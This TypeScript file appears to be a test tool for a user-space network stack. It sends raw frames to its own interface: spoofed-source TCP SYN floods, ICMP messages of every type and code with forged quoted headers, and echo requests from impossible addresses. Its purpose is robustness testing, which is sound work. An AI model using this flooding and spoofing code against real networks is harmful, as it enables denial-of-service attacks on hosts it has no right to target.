// Sends what no honest host sends, from the kernel's side of an interface: a
// part of ../attack_live_test.ts.

import { Random } from "@ethox/nic/random";
import { RawSocket } from "@ethox/nic/sys";
import { SENT } from "@ethox/nic/device";
import type { Packet } from "@ethox/nic/packet";
import * as ethernet from "@ethox/wire/ethernet";
import * as icmpv4 from "@ethox/wire/icmpv4";
import { Protocol } from "@ethox/wire/ip";
import * as ipv4 from "@ethox/wire/ipv4";
import * as tcp from "@ethox/wire/tcp";
import { main, UsageError, whole } from "./args.ts";
import { print } from "./terminal.ts";
import { HARDWARE, KERNEL, OURS } from "./wiring.ts";

const BURST = 64;
/** µs after which it gives up. */
const LIMIT = 60_000_000;
/** Quoted by errors: a header and eight octets more. */
const QUOTE = 28;
const TARGET = ipv4.Address.parse(OURS).value;
/** Sources that no single host in the net can have, or that never answer. */
const SOURCES = [
  OURS,
  "0.0.0.0",
  "127.0.0.1",
  "192.0.2.0",
  "192.0.2.255",
  "192.0.2.77",
  "224.0.0.1",
  "255.255.255.255",
].map((text) => ipv4.Address.parse(text).value);

const frame = new ethernet.Repr();
const datagram = new ipv4.Repr();
const header = new ipv4.View();
const random = new Random(1);

/** Writes the headers below a payload; returns where it begins. */
function begin(
  packet: Packet,
  source: number,
  protocol: number,
  octets: number,
): number {
  packet.resize(
    ethernet.HEADER_LENGTH + ipv4.HEADER_LENGTH + octets,
  );
  const { view } = packet.memory;
  frame.emit(view, packet.start);
  datagram.source = source;
  datagram.destination = TARGET;
  datagram.protocol = protocol;
  datagram.payloadLength = octets;
  const at = packet.start + ethernet.HEADER_LENGTH;
  datagram.emit(view, at);
  header.wrap(view, at, packet.end).fillChecksum();
  return at + ipv4.HEADER_LENGTH;
}

const segment = new tcp.Repr();
const segmentView = new tcp.View();

/** A request to connect from nobody in particular. */
function syn(packet: Packet, port: number): void {
  // 1.0.0.0 to 126.255.255.255, so that the answer goes to the gateway.
  const source = ((1 + random.below(126)) << 24) | random.below(1 << 24);
  const at = begin(packet, source, Protocol.TCP, segment.headerLength);
  segment.sourcePort = 1024 + random.below(60_000);
  segment.destinationPort = port;
  segment.sequence = random.below(2 ** 31) | 0;
  segment.flags = tcp.SYN;
  segment.window = 65_535;
  const { view } = packet.memory;
  segment.emit(view, at);
  segmentView.wrap(view, at, packet.end).fillChecksum4(source, TARGET);
  packet.queue();
}

const message = new icmpv4.Repr();
const messageView = new icmpv4.View();

/** One of all types and codes, from 0 to 65535. */
function icmp(packet: Packet, kind: number, source: number): void {
  message.type = kind >> 8;
  message.code = kind & 0xff;
  message.rest = random.below(2 ** 31);
  message.payloadLength = QUOTE;
  const headerLength = message.bufferLength - QUOTE;
  const at = begin(packet, source, Protocol.ICMP, headerLength + QUOTE);
  const { view } = packet.memory;
  message.emit(view, at);
  // What an error quotes looks like a segment of ours.
  datagram.source = TARGET;
  datagram.destination = source;
  datagram.protocol = Protocol.TCP;
  datagram.payloadLength = 8;
  datagram.emit(view, at + headerLength);
  messageView.wrap(view, at, packet.end).fillChecksum();
  packet.queue();
}

await main({
  name: "attack_program.ts",
  does: "Sends what no honest host sends.",
  positional: [
    ["<interface>", "name of an interface"],
    ["<kind>", "syn, icmp or spoof"],
    ["<port>", "TCP port to attack"],
    ["<count>", "how many packets"],
  ],
}, (args) => {
  const kind = args.text("<kind>");
  const port = args.port();
  const count = whole(args.text("<count>"), "<count>", 1, 1e9);
  const { high, low } = ethernet.Address.parse(HARDWARE);
  frame.destinationHigh = high;
  frame.destinationLow = low;
  frame.sourceHigh = 0x0200;
  frame.sourceLow = 0x66;
  frame.etherType = ethernet.EtherType.IPV4;
  const kernel = ipv4.Address.parse(KERNEL).value;
  let tried = 0;
  const send = (packet: Packet): void => {
    const number = tried++;
    switch (kind) {
      case "syn":
        return syn(packet, port);
      case "icmp":
        return icmp(packet, number & 0xffff, kernel);
      case "spoof":
        return icmp(packet, 0x0800, SOURCES[number % SOURCES.length]!);
      default:
        throw new UsageError(`There is no attack "${kind}"`);
    }
  };
  using device = RawSocket.open(args.text("<interface>"));
  const { values } = device.counters;
  const began = device.now();
  // What found the host's queue full was not sent.
  while (values[SENT]! < count && device.now() - began < LIMIT) {
    if (device.tx(BURST, send) === 0) device.wait(device.now() + 1000);
  }
  const seconds = (device.now() - began) / 1e6;
  print(`${values[SENT]} packets sent in ${seconds.toFixed(2)} s`);
  return 0;
});
